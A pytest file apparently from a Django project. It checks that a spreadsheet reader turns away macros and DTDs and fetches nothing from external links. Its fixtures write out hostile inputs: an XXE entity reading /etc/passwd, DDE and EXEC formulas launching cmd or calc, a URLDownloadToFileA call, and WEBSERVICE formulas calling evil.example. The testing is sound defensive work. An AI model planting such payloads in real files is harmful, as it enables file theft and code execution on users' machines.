"""A spreadsheet is read for what its cells show: macros are refused, and whatever leads elsewhere leads nowhere."""

import builtins
import io
import socket

import pytest
from django.utils.translation import override

from partners.formats import UnreadableError, read

from .malformed.archives import zipped
from .malformed.ods import SPREADSHEET, cell, document, line, manifest, ods
from .malformed.text import HEADINGS, KEY
from .malformed.xlsx import CONTENT_TYPES, MAIN, OFFICE, c, grid, noted, relations, sheet, xlsx

ROW = [KEY, "2012", "a"]
OLE2 = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
ELSEWHERE = "https://evil.example/a.xlsx"
DTD = '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">'
ENTITY = '<!DOCTYPE x [<!ENTITY % e SYSTEM "file:///etc/passwd"> %e;]>'
VBA = "http://schemas.microsoft.com/office/2006/relationships"
MACROS = {
    "lv": "Šajā darbgrāmatā ir makrokomandas. Saglabājiet to kā XLSX, tad to vairs nebūs.",
    "en": "This workbook holds macros. Save it as XLSX, which leaves them out.",
}
DAMAGED = {
    "lv": "Fails ir bojāts. Atveriet to programmā Excel vai LibreOffice un saglabājiet kā XLSX vai ODS.",
    "en": "The file is damaged. Open it in Excel or LibreOffice and save it as XLSX or ODS.",
}


def with_part(name, content="<x/>"):
    return noted("a", more=[(name, content)])


def related(kind, target, office=OFFICE, mode=""):
    """A workbook that refers to `target`, which it holds unless that is elsewhere."""
    link = f'<Relationship Id="rId9" Type="{office}/{kind}" Target="{target}" {mode}/>'
    parts = relations(("worksheet", "worksheets/sheet1.xml")).replace("</Rel", f"{link}</Rel")
    return noted("a", rels=parts, more=() if mode else [(f"xl/{target}", OLE2)])


def formula(text):
    return noted(c('t="str"', f"<f>{text}</f><v>a</v>"))


def with_name(text):
    book = (
        f'<?xml version="1.0"?><workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="A" sheetId="1" '
        f'r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">{text}</definedName></definedNames>'
        "</workbook>"
    )
    return noted("a", workbook=book)


def document_with(*parts, **changed):
    entries = [("mimetype", SPREADSHEET), ("META-INF/manifest.xml", manifest("content.xml"))]
    return zipped(*entries, ("content.xml", document(line(*ROW), **changed)), *parts)


WITH_MACROS = {
    "Excel, as a plain workbook": with_part("xl/vbaProject.bin", OLE2),
    "Excel, in letters of another size": with_part("XL/VBAPROJECT.BIN", OLE2),
    "Excel, in a part of another name": related("vbaProject", "media/a.png", VBA),
    "Excel 4": with_part("xl/macrosheets/sheet1.xml", sheet("")),
    "Excel 4, in a part of another name": related("xlMacrosheet", "worksheets/sheet9.xml", VBA),
    "LibreOffice Basic": document_with(("Basic/Standard/Module1.xml", "<x/>")),
    "Python in LibreOffice": document_with(("Scripts/python/a.py", "import os")),
}
WITH_A_DTD = {
    "relations of a workbook": noted(
        "a", rels=relations(("worksheet", "worksheets/sheet1.xml")).replace("?>", f"?>{DTD}")
    ),
    "texts of a workbook": noted("a", shared=f'<?xml version="1.0"?>{ENTITY}<sst xmlns="{MAIN}"/>'),
    "sheet of a workbook": xlsx(sheet1=sheet(grid(ROW)).replace("?>", f"?>{ENTITY}")),
    "content of a document": ods(line(*ROW), head=DTD),
    "styles of a document": document_with(("styles.xml", f'<?xml version="1.0"?>{DTD}<x/>')),
    "manifest of a document": zipped(
        ("mimetype", SPREADSHEET),
        ("META-INF/manifest.xml", manifest("content.xml").replace("?>", f"?>{ENTITY}")),
        ("content.xml", document(line(*ROW))),
    ),
}
EXTERNAL = 'TargetMode="External"'
LEADING_ELSEWHERE = {
    "link to another workbook": related("externalLink", "externalLinks/externalLink1.xml"),
    "link to a workbook elsewhere": related("externalLinkPath", ELSEWHERE, mode=EXTERNAL),
    "connection to a database": related("connections", "connections.xml"),
    "query of a web page": with_part("xl/queryTables/queryTable1.xml"),
    "embedded object": related("oleObject", "embeddings/oleObject1.bin"),
    "linked object": related("oleObject", r"file:///\\evil.example\a.doc", mode=EXTERNAL),
    "picture elsewhere": related("image", "https://evil.example/a.png", mode=EXTERNAL),
    "template elsewhere": related("attachedTemplate", "https://evil.example/a.xltm", mode=EXTERNAL),
    "ActiveX": with_part("xl/activeX/activeX1.bin", OLE2),
    "data with a DTD": with_part("customXml/item1.xml", f"{ENTITY}<x/>"),
    "types with a DTD": noted(
        "a",
        without=["[Content_Types].xml"],
        more=[("[Content_Types].xml", CONTENT_TYPES.replace("?>", f"?>{ENTITY}"))],
    ),
    "workbook that says it has macros": noted(
        "a",
        without=["[Content_Types].xml"],
        more=[("[Content_Types].xml", CONTENT_TYPES.replace("spreadsheetml.sheet", "macroEnabled"))],
    ),
    "formula of DDE": formula("cmd|'/c calc'!A0"),
    "formula of the web": formula("_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;)"),
    "formula of a link": formula("HYPERLINK(&quot;https://evil.example/&quot;,&quot;a&quot;)"),
    "formula of another workbook": formula("[1]Lapa!A1"),
    "formula that runs a program": formula("CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;)"),
    "name that runs at once": with_name("EXEC(&quot;calc&quot;)"),
    "formula of the web in a document": ods(
        line(
            KEY,
            "2012",
            cell("a", more='table:formula="of:=WEBSERVICE(&quot;https://evil.example/&quot;)"'),
        )
    ),
    "table elsewhere": ods(
        line(*ROW), lead='<table:dde-links><table:dde-link office:dde-application="cmd"/></table:dde-links>'
    ),
    "script in a document": ods(
        line(*ROW),
        lead='<office:event-listeners><script:event-listener xmlns:script="urn:x" script:event-name="dom:load" '
        'script:macro-name="Standard.Module1.Main"/></office:event-listeners>',
    ),
    "object in a document": document_with(
        ("Object 1/content.xml", f"{DTD}<x/>"), ("ObjectReplacements/a", OLE2)
    ),
}


def refusal(content):
    with pytest.raises(UnreadableError) as refused:
        list(read(io.BytesIO(content)).rows)
    return str(refused.value)


@pytest.fixture
def nothing_is_opened(monkeypatch):
    """Whoever opens a file or a connection meanwhile fails."""

    def opened(*arguments, **options):
        raise AssertionError(arguments)

    with override("lv"):
        read(io.BytesIO(noted("a")))  # what is loaded once
    monkeypatch.setattr(builtins, "open", opened)
    monkeypatch.setattr(io, "open", opened)
    monkeypatch.setattr(socket, "socket", opened)
    monkeypatch.setattr(socket, "getaddrinfo", opened)


@pytest.mark.parametrize("language", ["lv", "en"])
@pytest.mark.parametrize("name", WITH_MACROS)
def test_macros_are_refused_wherever_they_stand(name, language):
    with override(language):
        assert refusal(WITH_MACROS[name]) == MACROS[language]


@pytest.mark.parametrize("language", ["lv", "en"])
@pytest.mark.parametrize("name", WITH_A_DTD)
def test_dtd_is_refused_in_every_part_that_is_read(nothing_is_opened, name, language):
    with override(language):
        assert refusal(WITH_A_DTD[name]) == DAMAGED[language]


@pytest.mark.parametrize("name", LEADING_ELSEWHERE)
def test_only_what_the_cells_show_is_read_and_nothing_is_fetched(nothing_is_opened, name):
    table = read(io.BytesIO(LEADING_ELSEWHERE[name]))
    assert (table.headings, [row.cells for row in table.rows]) == (list(HEADINGS), [ROW])
